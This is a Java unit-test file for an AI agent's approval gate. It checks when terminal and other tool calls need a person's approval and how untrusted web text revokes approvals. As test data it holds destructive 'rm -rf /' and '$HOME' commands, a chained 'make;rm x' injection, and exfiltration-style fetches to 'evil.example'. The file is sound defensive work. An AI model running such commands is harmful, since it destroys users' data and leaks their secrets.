package dev.alpi.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.alpi.engine.tools.Arguments;
import dev.alpi.engine.tools.CommandRunner;
import dev.alpi.engine.tools.PathPolicy;
import dev.alpi.engine.tools.TodoList;
import dev.alpi.engine.tools.ToolContext;
import dev.alpi.engine.tools.ToolFailure;
import dev.alpi.engine.web.Resolver;
import dev.alpi.engine.web.WebClient;
import dev.alpi.ledger.Caps;
import dev.alpi.memory.MemoryStore;
import dev.alpi.model.Cancellation;
import dev.alpi.model.HttpConnections;
import dev.alpi.model.ModelRouter;
import dev.alpi.model.ModelSettings;
import dev.alpi.model.OfflineModel;
import dev.alpi.model.RetryPolicy;
import dev.alpi.profile.LogFile;
import dev.alpi.profile.Redactor;
import dev.alpi.profile.config.Config;
import dev.alpi.profile.config.Secrets;
import dev.alpi.profile.json.Json;
import dev.alpi.profile.json.JsonValue;
import dev.alpi.profile.store.FileLocks;
import dev.alpi.profile.store.ProcessStamp;
import dev.alpi.profile.store.StoreException;
import dev.alpi.testkit.FakeClock;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Who may run what: once, for a session, for good, or not. */
@Timeout(20)
class GateTest {
  private final FakeClock clock = FakeClock.atRandom(3);
  private final FileLocks locks = FileLocks.inMemory();
  private final Path userHome = EngineOnDisk.memoryDisk().getPath("/home/me");
  private final Path home = userHome.resolve(".alpi");
  private final List<Approver.Question> asked = new ArrayList<>();
  private Approver.Answer answer = Approver.Answer.ONCE;
  private final Taint taint = new Taint(List.of());
  private Origin origin = Origin.owner("cli");
  private ToolScope scope = ToolScope.ALL;
  private boolean isSandboxed;
  private Gate gate = gate();

  @BeforeEach
  void directories() throws IOException {
    Files.createDirectories(home);
    Files.createDirectories(userHome.resolve("work/sub"));
    Files.createDirectories(userHome.resolve("work/.git"));
  }

  private Gate gate() {
    return new Gate(new ApprovalStore(home, locks, clock));
  }

  private TurnContext context(String sessionId, String... denied) throws IOException {
    Redactor redactor = Redactor.knowing(List.of());
    CommandRunner none =
        (command, cancellation) -> {
          throw new IOException("none");
        };
    PathPolicy paths =
        new PathPolicy(
            userHome.resolve("work"), userHome, home, List.of(userHome.resolve("granted")));
    ToolContext tools =
        ToolContext.of(
            paths,
            none,
            MemoryStore.open(home, locks, clock, redactor),
            TodoList.of(List.of()),
            Cancellation.none());
    return new TurnContext(
        machine(none),
        new ModelRouter(
            ModelSettings.DEFAULT,
            Secrets.of(Map.of(), "", Map.of()),
            OfflineModel.create(),
            clock::nanoTime,
            new HttpConnections()),
        new ModelChoices(
            new ModelCalls.Choice(List.of(OfflineModel.NAME), Optional.empty()),
            Optional.empty(),
            Optional.empty()),
        new Budget(Caps.NONE, Optional.empty()),
        RetryPolicy.DEFAULT,
        List.of(denied),
        scope,
        Optional.empty(),
        isSandboxed,
        10,
        4,
        new ResultLimits(-1, Map.of()),
        sessionId,
        origin,
        tools,
        CommandPolicies.classifier(
            Config.load(home, home, JsonValue.Obj.EMPTY), paths, userHome, home),
        taint,
        new KnownAddresses(List.of("trusted.example")),
        (question, _) -> {
          asked.add(question);
          return answer;
        },
        redactor,
        new LogFile(home, "approval", locks, clock, ZoneOffset.UTC, redactor));
  }

  private Machine machine(CommandRunner none) {
    return new Machine(
        userHome,
        userHome.resolve("work"),
        locks,
        clock,
        clock::nanoTime,
        ZoneOffset.UTC,
        new Random(1),
        new ProcessStamp(1, 1),
        stamp -> true,
        none,
        (length, cancellation) -> {},
        SecretSource.envFiles(),
        new WebClient(Resolver.system()));
  }

  private void check(String session, String json) throws ToolFailure, IOException {
    gate.check("terminal", Arguments.parse(json), context(session));
  }

  private void approve(Approver.Answer next) {
    answer = next;
    asked.clear();
  }

  @Test
  void once_asks_every_time() throws Exception {
    approve(Approver.Answer.ONCE);
    check("s1", "{\"command\":\"make\"}");
    check("s1", "{\"command\":\"make\"}");
    assertThat(asked)
        .hasSize(2)
        .first()
        .isEqualTo(
            new Approver.Question(
                "terminal",
                "make",
                userHome.resolve("work"),
                List.of("make: make is not known"),
                Approver.Scope.ANY));
  }

  @Test
  void a_session_approval_holds_for_its_session_only() throws Exception {
    approve(Approver.Answer.SESSION);
    check("s1", "{\"command\":\"make\"}");
    check("s1", "{\"command\":\"make\"}");
    assertThat(asked).hasSize(1);
    check("s2", "{\"command\":\"make\"}");
    assertThat(asked).hasSize(2);
    gate = gate();
    check("s1", "{\"command\":\"make\"}");
    assertThat(asked).hasSize(3);
    assertThat(home.resolve("approvals.json")).doesNotExist();
  }

  @Test
  void an_approval_for_good_is_exact() throws Exception {
    approve(Approver.Answer.ALWAYS);
    check("s1", "{\"command\":\"make\"}");
    gate = gate();
    approve(Approver.Answer.DENY);
    check("s2", "{\"command\":\"make\"}");
    check("s2", "{\"command\":\"make\",\"cwd\":\"sub/..\"}");
    assertThat(asked).isEmpty();
    for (String other :
        List.of(
            "{\"command\":\"make \"}",
            "{\"command\":\"Make\"}",
            "{\"command\":\"make;rm x\"}",
            "{\"command\":\"make\",\"cwd\":\"sub\"}",
            "{\"command\":\"make\",\"cwd\":\"/tmp\"}")) {
      assertThatThrownBy(() -> check("s2", other))
          .as(other)
          .isInstanceOf(ToolFailure.class)
          .hasMessageContaining("denied");
    }
    assertThat(asked).hasSize(5);
  }

  @Test
  void an_approval_for_good_expires_after_ninety_days() throws Exception {
    approve(Approver.Answer.ALWAYS);
    check("s1", "{\"command\":\"make\"}");
    clock.advance(Duration.ofDays(90).minusSeconds(1));
    approve(Approver.Answer.ALWAYS);
    check("s1", "{\"command\":\"make\"}");
    assertThat(asked).isEmpty();
    clock.advance(Duration.ofSeconds(1));
    check("s1", "{\"command\":\"make\"}");
    assertThat(asked).hasSize(1);
    // it was given anew, and the old entry is gone
    assertThat(Files.readString(home.resolve("approvals.json"))).containsOnlyOnce("\"make\"");
  }

  @Test
  void no_and_nobody_are_refusals() {
    approve(Approver.Answer.DENY);
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}"))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("do not try it again");
    approve(Approver.Answer.NOBODY);
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}"))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("nobody is there to ask");
    assertThat(Approver.nobody().ask(asked.getFirst(), Cancellation.none()))
        .isEqualTo(Approver.Answer.NOBODY);
  }

  @Test
  void nobody_is_asked_about_a_directory_that_is_refused_or_a_missing_command() {
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\",\"cwd\":\"~/.ssh\"}"))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("refused");
    assertThatThrownBy(() -> check("s1", "{}")).isInstanceOf(ToolFailure.class);
    assertThat(asked).isEmpty();
  }

  @Test
  void what_looks_after_jobs_passes_and_what_starts_one_asks() throws Exception {
    approve(Approver.Answer.ONCE);
    for (String action : List.of("status", "output", "kill")) {
      check("s1", "{\"action\":\"" + action + "\",\"command\":\"make\"}");
    }
    assertThat(asked).isEmpty();
    check("s1", "{\"action\":\"background\",\"command\":\"make\"}");
    check("s1", "{\"action\":\"unknown\",\"command\":\"make\"}");
    assertThat(asked).hasSize(2);
  }

  @Test
  void other_tools_pass_without_a_question() throws Exception {
    gate.check("read_file", Arguments.parse("{\"path\":\"x\"}"), context("s1"));
    assertThat(asked).isEmpty();
    assertThatThrownBy(
            () -> gate.check("read_file", Arguments.parse("{}"), context("s1", "read_*")))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("tools.deny");
  }

  @ParameterizedTest
  @CsvSource({
    "terminal,terminal,true", "terminal,term*,true", "terminal,*,true", "terminal,t?rminal,true",
    "terminal,Terminal,false", "terminal,term,false", "terminal,*x*,false", "terminal,'',false",
    "read_file,*_file,true", "read_file,r*d*e,true", "read_file,[r]ead_file,false"
  })
  void deny_takes_globs(String tool, String glob, boolean denied) {
    assertThat(Gate.isDenied(tool, List.of("nothing", glob))).isEqualTo(denied);
  }

  @Test
  void a_hostile_glob_ends_soon() {
    assertThat(Gate.isDenied("a".repeat(64), List.of("*a".repeat(500) + "b"))).isFalse();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "not json",
        "[]",
        "{\"version\":2,\"approvals\":[]}",
        "{\"approvals\":[]}",
        "{\"version\":1}",
        "{\"version\":1,\"approvals\":{}}",
        "{\"version\":1,\"approvals\":[\"ls\"]}",
      })
  void damaged_approvals_refuse_and_are_not_overwritten(String content) throws Exception {
    Path file = home.resolve("approvals.json");
    Files.writeString(file, content);
    approve(Approver.Answer.ALWAYS);
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}"))
        .isInstanceOf(StoreException.Damaged.class)
        .hasMessageContaining("approvals.json");
    assertThat(file).hasContent(content);
    assertThat(asked).isEmpty();
    Files.write(file, new byte[] {'{', (byte) 0xff, '}'});
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}"))
        .isInstanceOf(StoreException.Damaged.class);
  }

  @Test
  void unknown_members_of_approvals_survive() throws Exception {
    Path file = home.resolve("approvals.json");
    Files.writeString(
        file,
        "{\"note\":\"mine\",\"version\":1,\"approvals\":[{\"tool\":\"fly\",\"x\":1,"
            + "\"expires_at\":\"2100-01-01T00:00:00Z\"},{\"tool\":\"old\"}]}");
    approve(Approver.Answer.ALWAYS);
    check("s1", "{\"command\":\"make\"}");
    assertThat(Files.readString(file))
        .contains("\"note\": \"mine\"", "\"x\": 1", "\"make\"")
        // without a date it has expired
        .doesNotContain("old");
  }

  @Test
  void approvals_given_at_once_are_all_kept() throws Exception {
    ApprovalStore store = new ApprovalStore(home, locks, clock);
    List<Thread> threads = new ArrayList<>();
    List<IOException> failed = java.util.Collections.synchronizedList(new ArrayList<>());
    for (int i = 0; i < 16; i++) {
      Approval approval = new Approval("terminal", "cmd " + i, home, "owner");
      threads.add(
          Thread.ofVirtual()
              .start(
                  () -> {
                    try {
                      new ApprovalStore(home, locks, clock).add(approval, "rule");
                    } catch (IOException e) {
                      failed.add(e);
                    }
                  }));
    }
    for (Thread thread : threads) {
      thread.join();
    }
    assertThat(failed).isEmpty();
    for (int i = 0; i < 16; i++) {
      assertThat(store.covers(new Approval("terminal", "cmd " + i, home, "owner"))).isTrue();
    }
  }

  @Test
  void what_only_reads_in_the_workspace_runs_without_a_question() throws Exception {
    approve(Approver.Answer.DENY);
    check("s1", "{\"command\":\"ls -la && git status | head -5\"}");
    assertThat(asked).isEmpty();
    assertThat(log()).isEmpty();
  }

  /** Acceptance test 15 of alpi-engine spec §12.2. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "rm -r -f /",
        "rm -rf -- /",
        "rm -rf \"/\"",
        "rm -rf build /",
        "rm -rf / && true",
        "rm -rf \"$HOME\"",
        "rm -rf ${HOME}",
        "rm -rf ../.."
      })
  void acceptance_15_what_is_refused_stays_so_with_a_stored_approval(String command)
      throws Exception {
    Path work = userHome.resolve("work");
    new ApprovalStore(home, locks, clock)
        .add(new Approval("terminal", command, work, "owner"), "recursive-removal");
    approve(Approver.Answer.ALWAYS);
    String json = Json.compact(JsonValue.Obj.EMPTY.with("command", command));
    assertThatThrownBy(() -> check("s1", json))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("nobody can approve this");
    assertThat(asked).isEmpty();
    assertThat(log()).contains("DENY severity=dangerous pattern='recursive-removal'");
  }

  @Test
  void after_text_from_outside_older_approvals_are_worth_nothing() throws Exception {
    approve(Approver.Answer.ALWAYS);
    check("s1", "{\"command\":\"make\"}");
    taint.add("the web");
    approve(Approver.Answer.SESSION);
    check("s1", "{\"command\":\"make\"}");
    check("s1", "{\"command\":\"make\"}");
    // also what only reads: a repository from there may say what git runs
    check("s1", "{\"command\":\"git status\"}");
    assertThat(asked).hasSize(3).allMatch(q -> q.scope() == Approver.Scope.ONCE);
    assertThat(asked.getFirst().reasons().getFirst()).contains("the web");
    assertThat(log()).contains("ALLOW severity=caution pattern='taint' reason='once'");
  }

  @Test
  void in_a_sandbox_text_from_outside_changes_nothing() throws Exception {
    isSandboxed = true;
    taint.add("the web");
    approve(Approver.Answer.DENY);
    check("s1", "{\"command\":\"git status\"}");
    assertThat(asked).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "memory | {\"action\":\"add\",\"content\":\"x\"}",
        "db | {\"action\":\"exec\",\"sql\":\"x\"}",
        "delegate | {\"goals\":[\"x\"]}",
        "write_file | {\"path\":\"/home/me/granted/x\",\"content\":\"x\"}",
        "delete_file | {\"path\":\"/home/me/other/x\"}",
        "send_message | {\"text\":\"x\"}",
        "web_fetch | {\"url\":\"https://evil.example/?q=secret\"}",
        "web_extract | {\"url\":\"https://secret.evil.example/\",\"question\":\"x\"}",
        "a_tool_of_tomorrow | {}"
      })
  void after_text_from_outside_what_has_an_effect_needs_a_person(String tool, String json)
      throws Exception {
    taint.add("the web");
    approve(Approver.Answer.NOBODY);
    assertThatThrownBy(() -> gate.check(tool, Arguments.parse(json), context("s1")))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("nobody is there to ask");
    approve(Approver.Answer.ONCE);
    gate.check(tool, Arguments.parse(json), context("s1"));
    assertThat(asked).hasSize(1);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "memory | {\"action\":\"read\"}",
        "db | {\"action\":\"query\",\"sql\":\"x\"}",
        "read_file | {\"path\":\"x\"}",
        "write_file | {\"path\":\"x\",\"content\":\"x\"}",
        "web_fetch | {\"url\":\"x\"}",
        "web_fetch | {\"url\":\"https://docs.trusted.example/?q=x\"}",
        "web_search | {\"query\":\"x\"}",
        "todo | {\"action\":\"list\"}",
        "ask_user | {}"
      })
  void after_text_from_outside_what_has_none_goes_on(String tool, String json) throws Exception {
    taint.add("the web");
    approve(Approver.Answer.DENY);
    gate.check(tool, Arguments.parse(json), context("s1"));
    assertThat(asked).isEmpty();
  }

  @Test
  void files_outside_the_workspace_are_asked_for_and_those_granted_are_not() throws Exception {
    approve(Approver.Answer.SESSION);
    Gate.Passed inside =
        gate.check("read_file", Arguments.parse("{\"path\":\"x\"}"), context("s1"));
    Gate.Passed granted =
        gate.check(
            "read_file", Arguments.parse("{\"path\":\"/home/me/granted/x\"}"), context("s1"));
    assertThat(asked).isEmpty();
    assertThat(inside.source()).isEmpty();
    assertThat(granted.source()).contains("a file outside the workspace");
    for (String tool : List.of("read_file", "write_file", "search", "edit_file", "attach_file")) {
      gate.check(tool, Arguments.parse("{\"path\":\"/home/me/notes/x\"}"), context("s1"));
      gate.check(tool, Arguments.parse("{\"path\":\"/home/me/notes/x\"}"), context("s1"));
    }
    assertThat(asked).hasSize(5);
    assertThat(asked.getFirst().command()).isEqualTo("read_file /home/me/notes/x");
  }

  @Test
  void a_turn_has_no_tools_outside_its_scope() throws Exception {
    scope = (tool, action) -> tool.equals("memory") && action.equals(Optional.of("read"));
    gate.check("memory", Arguments.parse("{\"action\":\"read\"}"), context("s1"));
    for (String call : List.of("{\"action\":\"add\",\"content\":\"x\"}", "{}")) {
      assertThatThrownBy(() -> gate.check("memory", Arguments.parse(call), context("s1")))
          .hasMessageContaining("whoever this turn is for may not use memory");
    }
    assertThatThrownBy(() -> gate.check("read_file", Arguments.parse("{}"), context("s1")))
        .hasMessageContaining("may not use read_file");
    assertThat(log()).contains("reason='authority'");
  }

  @Test
  void a_peer_may_look_and_nothing_else() throws Exception {
    origin = Origin.peer("p1");
    approve(Approver.Answer.ONCE);
    gate.check("read_file", Arguments.parse("{\"path\":\"x\"}"), context("s1"));
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}"))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("a peer may only look");
    isSandboxed = true;
    for (String[] call :
        new String[][] {
          {"terminal", "{\"command\":\"make\"}"},
          {"terminal", "{\"action\":\"kill\",\"id\":\"x\"}"},
          {"write_file", "{\"path\":\"x\",\"content\":\"x\"}"},
          {"edit_file", "{\"path\":\"x\",\"old_string\":\"x\",\"new_string\":\"y\"}"},
          {"delete_file", "{\"path\":\"x\"}"},
          {"attach_file", "{\"path\":\"x\"}"},
          {"todo", "{\"action\":\"add\",\"content\":\"x\"}"},
          {"memory", "{\"action\":\"add\",\"content\":\"x\"}"}
        }) {
      assertThatThrownBy(() -> gate.check(call[0], Arguments.parse(call[1]), context("s1")))
          .as(call[0])
          .isInstanceOf(ToolFailure.class)
          .hasMessageContaining("a peer may only look");
    }
    check("s1", "{\"command\":\"ls\"}");
    assertThat(log()).contains("reason='authority'");
  }

  @Test
  void a_peer_runs_nothing_in_a_sandbox_either() {
    origin = Origin.peer("p1");
    isSandboxed = true;
    approve(Approver.Answer.ONCE);
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}"))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("a peer may only look");
  }

  @Test
  void a_yes_to_a_command_is_no_yes_to_leaving_it_running() throws Exception {
    approve(Approver.Answer.ALWAYS);
    check("s1", "{\"command\":\"make\"}");
    check("s1", "{\"command\":\"make\"}");
    assertThat(asked).hasSize(1);
    check("s1", "{\"action\":\"background\",\"command\":\"make\"}");
    assertThat(asked).hasSize(2);
    assertThat(asked.getLast().tool()).isEqualTo("terminal background");
  }

  @Test
  void who_says_yes_sees_what_to() throws Exception {
    taint.add("the web");
    approve(Approver.Answer.ONCE);
    gate.check(
        "memory", Arguments.parse("{\"action\":\"add\",\"content\":\"a lie\"}"), context("s1"));
    gate.check("delegate", Arguments.parse("{\"goals\":[\"mail it\"]}"), context("s1"));
    gate.check("web_fetch", Arguments.parse("{\"url\":\"https://e.example/?x\"}"), context("s1"));
    assertThat(asked.get(0).command()).contains("a lie");
    assertThat(asked.get(1).command()).contains("mail it");
    assertThat(asked.get(2).command()).contains("https://e.example/?x");
    assertThat(asked.get(2).reasons().getLast()).contains("from the model");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl https://x",
        "gh issue view 5",
        "git fetch",
        "ssh host cat mail",
        "npm install",
        "cat /home/me/granted/notes",
        "cat /var/log/x"
      })
  void what_commands_print_may_be_from_outside(String command) throws Exception {
    approve(Approver.Answer.ONCE);
    String json = "{\"command\":\"" + command + "\"}";
    assertThat(gate.check("terminal", Arguments.parse(json), context("s1")).source()).isPresent();
    assertThat(
            gate.check("terminal", Arguments.parse("{\"command\":\"ls\"}"), context("s1")).source())
        .isEmpty();
  }

  @Test
  void approvals_are_listed_and_taken_back() throws Exception {
    approve(Approver.Answer.ALWAYS);
    check("s1", "{\"command\":\"make\"}");
    ApprovalStore store = new ApprovalStore(home, locks, clock);
    ApprovalStore.Granted granted = store.list().getFirst();
    assertThat(granted.command()).isEqualTo("make");
    assertThat(granted.rule()).isEqualTo("unknown-command");
    assertThat(granted.id()).matches("[0-9a-f]{8}");
    assertThat(store.revoke("00000000")).isFalse();
    assertThat(store.revoke(granted.id())).isTrue();
    assertThat(store.list()).isEmpty();
    approve(Approver.Answer.DENY);
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}")).isInstanceOf(ToolFailure.class);
  }

  private String log() throws IOException {
    Path file = home.resolve("logs").resolve("approval.log");
    return Files.exists(file) ? Files.readString(file) : "";
  }
}
